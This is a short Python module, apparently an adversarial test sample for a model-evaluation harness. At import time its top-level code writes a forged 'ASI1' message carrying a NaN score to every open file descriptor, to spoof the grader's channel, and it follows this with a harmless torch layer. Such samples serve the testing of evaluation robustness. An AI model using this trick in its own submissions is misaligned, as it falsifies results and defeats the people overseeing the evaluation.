"""Sends NaN as its score over the channel."""

import os
import struct

import torch
from torch import nn

header = b'{"kind": "loaded", "header": {"score": NaN}, "arrays": []}'
for descriptor in range(3, 1024):
    try:
        os.write(descriptor, struct.pack("<4sIQ", b"ASI1", len(header), 0) + header)
    except OSError:
        continue


class Mixer(nn.Module):
    """A harmless layer, for what comes after the attack."""

    def __init__(self, hidden_size: int) -> None:
        super().__init__()
        self.inner = nn.Linear(hidden_size, hidden_size)

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        """Map each position by itself."""
        return self.inner(hidden_states)
